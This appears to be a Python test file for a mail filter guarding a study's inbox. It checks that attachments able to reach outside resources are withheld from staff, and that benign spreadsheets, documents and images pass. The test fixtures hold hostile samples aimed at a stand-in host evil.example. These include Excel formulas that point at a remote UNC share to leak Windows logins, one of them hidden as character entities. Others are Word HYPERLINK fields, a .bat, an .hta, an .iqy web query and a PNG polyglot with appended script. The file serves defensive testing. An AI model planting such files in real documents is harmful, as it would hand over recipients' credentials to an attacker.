"""A spy wants the login of whoever reads the study's mail. They ask a question, and attach what is no macro, link or object.

A formula names a workbook on their share, to which Windows hands a login as soon as it looks for the file; a field of Word fetches a
picture; a text is a query or a script, if somebody calls it so again; a picture has a program behind its end.
"""

from __future__ import annotations

import base64

import pytest

from tests.attacks.books import changed
from tests.attacks.scene import Scene, person
from tests.workbooks.test_harmless import PICTURE, docx, xlsx

SHARE = r"'\\evil.example\share\[x.xlsx]S'!A1"
UNC = r"\\evil.example\share"


def hidden(formula: str) -> bytes:
    """Return a workbook with a formula whose signs are written by their numbers."""
    written = "".join(f"&#{ord(sign)};" for sign in formula).encode()
    return changed(xlsx(formula="=1+1"), "xl/worksheets/sheet1.xml", lambda sheet: sheet.replace(b"<f>1+1</f>", b"<f>%b</f>" % written))


FILES = {
    "share.xlsx": xlsx(formula=f"={SHARE}"),
    "hidden.xlsx": hidden(SHARE),
    "click.xlsx": xlsx(formula=f'=HYPERLINK("{UNC}","Our answers")'),
    "field.docx": docx(f'<w:fldSimple w:instr="HYPERLINK &quot;{UNC.replace(chr(92), chr(92) * 2)}&quot;"/>'),
    "quote.docx": docx('<w:fldSimple w:instr="QUOTE 73 78 67"/>'),
    "answers.bat": b"@echo off\r\nstart evil.example\r\n",
    "answers.hta": b"Hello <script>evil.example</script>",
    "answers.iqy": b"WEB\r\n1\r\nhttp://evil.example/x\r\n",
    "scan.png": PICTURE + b"<script>evil.example</script>PK\3\4",
}


@pytest.mark.parametrize("name", FILES)
@pytest.mark.parametrize("sender", ["spy@evil.example", person(5)])
def test_nothing_that_names_another_file_reaches_the_staff(scene: Scene, name: str, sender: str) -> None:
    """Neither by itself nor inside the message; the letter says that it stays here."""
    scene.write(sender, (name, FILES[name]), text="Which year is meant in question 1.4? See the attached file.")
    (letter,) = scene.passed_on()
    assert not letter.letter.attachments
    assert "It is not attached" in letter.letter.text


def test_nor_does_a_picture_in_the_text(scene: Scene) -> None:
    """It has no name that a person would see."""
    page = base64.encodebytes(FILES["scan.png"]).decode().replace("\n", "\r\n")
    scene.post(
        b"From: spy@evil.example\r\nTo: cybercrime.study@unodc.example\r\nSubject: Which year?\r\nMessage-ID: <a@evil.example>\r\n"
        b'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\n'
        b"Which year is meant in question 1.4?\r\n--b\r\nContent-Type: image/png\r\nContent-ID: <1>\r\nContent-Disposition: inline\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n" + page.encode() + b"\r\n--b--\r\n",
        "spy@evil.example",
        "mail.evil.example",
    )
    scene.take_in()
    (letter,) = scene.passed_on()
    assert not letter.letter.attachments
    assert "It is not attached" in letter.letter.text


HONEST = {
    "tables.xlsx": xlsx(formula='=IF(A1="","See [1]",HYPERLINK("https://ministry.example/"&A1,"report"))'),
    "letter.docx": docx('<w:fldSimple w:instr=" PAGE "/><w:fldSimple w:instr="HYPERLINK &quot;https://ministry.example/&quot;"/>'),
    "note.txt": b"The figures are in thousands.\r\n",
    "scan.png": PICTURE,
}


@pytest.mark.parametrize("name", HONEST)
def test_ordinary_files_reach_the_staff(scene: Scene, name: str) -> None:
    """With formulas, page numbers and links to pages."""
    scene.reply(5, person(5), (name, HONEST[name]), text="Which year is meant in question 1.4? See the attached file.")
    (letter,) = scene.passed_on()
    assert letter.letter.attachments
